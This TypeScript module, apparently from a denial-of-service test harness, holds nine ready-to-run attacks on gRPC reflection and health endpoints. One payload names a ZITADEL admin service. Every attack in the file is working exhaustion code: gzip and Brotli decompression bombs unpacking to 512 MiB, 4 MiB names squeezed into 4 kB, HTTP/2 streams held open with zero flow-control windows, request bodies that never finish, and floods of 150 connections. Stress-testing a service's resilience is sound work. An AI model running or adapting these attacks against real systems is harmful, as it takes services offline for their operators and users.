import { brotliCompressSync, constants, gzipSync } from "node:zlib";
import type { Attack } from "../attack.ts";
import { openRead, request } from "../wire/http1.ts";
import {
  callBlock,
  dataFrames,
  grpcBlock,
  openHttp2,
  streamFrames,
} from "../wire/http2.ts";
import { envelope, field, gzipped, longText } from "../wire/messages.ts";
import { atOnce, flood, send, Span } from "../wire/pace.ts";

const reflection = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const listServices = 7;
const fileBySymbol = 4;
const check = "/grpc.health.v1.Health/Check";
const watch = "/grpc.health.v1.Health/Watch";

export const reflectedHosts: Attack = {
  name: "reflected-hosts",
  what: "ServerReflectionInfo with a host of 4 MiB, compressed to 4 kB, on 100 streams with windows of 0 on each of 4 connections.",
  run: async (target, tally) => {
    const span = new Span(target);
    const asked = gzipped(
      Buffer.concat([
        field(1, longText(4).subarray(100)),
        field(listServices, ""),
      ]),
    );
    await atOnce(4, async () => {
      const connection = await openHttp2(target, tally, { window: 0 });
      const block = grpcBlock(reflection, { gzip: true });
      for (let count = 0; count < 100; count += 1) {
        if (!(await connection.send(block, asked, span, false))) {
          break;
        }
      }
    });
    await span.rest();
    return undefined;
  },
};

export const reflectedFiles: Attack = {
  name: "reflected-files",
  what: "Small questions for large files, without an end, on 10 streams with windows of 0 on each of 10 connections.",
  run: async (target, tally) => {
    const span = new Span(target);
    const symbol = field(fileBySymbol, "zitadel.admin.v1.AdminService");
    const asked = Buffer.concat(Array(100).fill(envelope(symbol)));
    await atOnce(10, async () => {
      const connection = await openHttp2(target, tally, { window: 0 });
      const block = grpcBlock(reflection);
      const streams = Array.from({ length: 10 }, () => connection.next());
      for (const stream of streams) {
        connection.write(streamFrames(stream, block, undefined, false));
      }
      // The windows of the streams have room for ten turns.
      for (let turn = 0; turn < 10; turn += 1) {
        for (const stream of streams) {
          if (
            !(await connection.more(
              Buffer.concat(dataFrames(stream, asked, false)),
              asked.length,
              span,
            ))
          ) {
            return;
          }
        }
      }
    });
    await span.rest();
    return undefined;
  },
};

export const watchedLongNames: Attack = {
  name: "watched-long-names",
  what: "Health/Watch of a service whose name has 4 MiB, compressed to 4 kB, on 100 streams of each of 10 connections.",
  run: async (target, tally) => {
    const span = new Span(target);
    const asked = gzipped(field(1, longText(4).subarray(100)));
    await atOnce(10, async () => {
      const connection = await openHttp2(target, tally);
      const block = grpcBlock(watch, { gzip: true });
      for (let count = 0; count < 100; count += 1) {
        if (!(await connection.send(block, asked, span))) {
          break;
        }
      }
    });
    await span.rest();
    return undefined;
  },
};

export const manyWatches: Attack = {
  name: "many-watches",
  what: "Health/Watch on 100 streams of each of 150 connections.",
  run: async (target, tally) => {
    const span = new Span(target);
    const asked = envelope(field(1, "no.such.Service"));
    await atOnce(150, async () => {
      const connection = await openHttp2(target, tally);
      const block = grpcBlock(watch);
      for (let count = 0; count < 100; count += 1) {
        if (!(await connection.send(block, asked, span))) {
          break;
        }
      }
    });
    await span.rest();
    return undefined;
  },
};

export const checkedLongNames: Attack = {
  name: "checked-long-names",
  what: "Health/Check of a service whose name has 4 MiB, by gRPC, gRPC-Web and Connect, on 100 streams with windows of 0 on each of 6 connections.",
  run: async (target, tally) => {
    const span = new Span(target);
    const message = field(1, longText(4).subarray(100));
    const json = JSON.stringify({ service: longText(3).toString() });
    const forms = [
      { block: grpcBlock(check, { gzip: true }), content: gzipped(message) },
      {
        block: callBlock(check, {
          "content-type": "application/grpc-web+proto",
          "grpc-encoding": "gzip",
        }),
        content: gzipped(message),
      },
      {
        block: callBlock(check, {
          "content-type": "application/proto",
          "content-encoding": "gzip",
        }),
        content: gzipSync(message),
      },
      {
        block: callBlock(check, {
          "content-type": "application/json",
          "content-encoding": "gzip",
        }),
        content: gzipSync(json),
      },
    ];
    await atOnce(6, async (index) => {
      const connection = await openHttp2(target, tally, { window: 0 });
      for (let count = 0; count < 100; count += 1) {
        const form = forms[(index + count) % forms.length];
        if (form === undefined) {
          break;
        }
        if (!(await connection.send(form.block, form.content, span))) {
          break;
        }
      }
    });
    await span.rest();
    return undefined;
  },
};

export const bombs: Attack = {
  name: "bombs",
  what: "Health/Check with bodies that unpack to 512 MiB, gzip and Brotli, on 16 connections.",
  run: async (target, tally) => {
    const span = new Span(target);
    const zeros = Buffer.alloc(512 * 1024 * 1024);
    const quality = { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } };
    const bodies = [
      ["gzip", gzipSync(zeros)],
      ["br", brotliCompressSync(zeros, quality)],
    ] as const;
    const asked = bodies.map(([encoding, body]) =>
      request(
        "POST",
        check,
        { "content-type": "application/proto", "content-encoding": encoding },
        body,
      ),
    );
    await atOnce(16, async (index) => {
      while (!span.over) {
        const socket = await openRead(target, tally);
        const one = asked[index % asked.length] ?? Buffer.alloc(0);
        await flood(socket, () => one, span);
      }
    });
    return undefined;
  },
};

export const textBombs: Attack = {
  name: "text-bombs",
  what: "Health/Check by gRPC-Web as text, 4 MiB of Base64 in each, and compressed messages in it, on 8 connections.",
  run: async (target, tally) => {
    const span = new Span(target);
    const long = envelope(field(1, longText(3)));
    const bomb = gzipped(field(1, longText(64)));
    const asked = [
      long,
      bomb,
      Buffer.concat(Array(2000).fill(envelope(Buffer.alloc(0)))),
    ].map((content) =>
      request(
        "POST",
        check,
        {
          "content-type": "application/grpc-web-text",
          "grpc-encoding": "gzip",
        },
        Buffer.from(content.toString("base64")),
      ),
    );
    await atOnce(8, async (index) => {
      for (let turn = index; !span.over; turn += 1) {
        const socket = await openRead(target, tally);
        const one = asked[turn % asked.length] ?? Buffer.alloc(0);
        if (await send(socket, one, span)) {
          await flood(socket, () => one, span);
        }
      }
    });
    return undefined;
  },
};

export const unfinishedBodies: Attack = {
  name: "unfinished-bodies",
  what: "Health/Check with a body of 4 MiB whose last byte never comes, on 400 connections.",
  run: async (target, tally) => {
    const span = new Span(target);
    const body = Buffer.alloc(4 * 1024 * 1024 - 100, "a");
    const asked = request(
      "POST",
      check,
      { "content-type": "application/proto" },
      body,
    );
    await atOnce(400, async () => {
      const socket = await openRead(target, tally);
      await send(socket, asked.subarray(0, -1), span);
    });
    await span.rest();
    return undefined;
  },
};

export const silentStreams: Attack = {
  name: "silent-streams",
  what: "Calls whose messages never come, on 100 streams of each of 150 connections.",
  run: async (target, tally) => {
    const span = new Span(target);
    const paths = [check, watch, reflection];
    await atOnce(150, async () => {
      const connection = await openHttp2(target, tally);
      for (let count = 0; count < 100; count += 1) {
        const block = grpcBlock(paths[count % paths.length] ?? check);
        connection.write(
          streamFrames(connection.next(), block, undefined, false),
        );
      }
    });
    await span.rest();
    return undefined;
  },
};
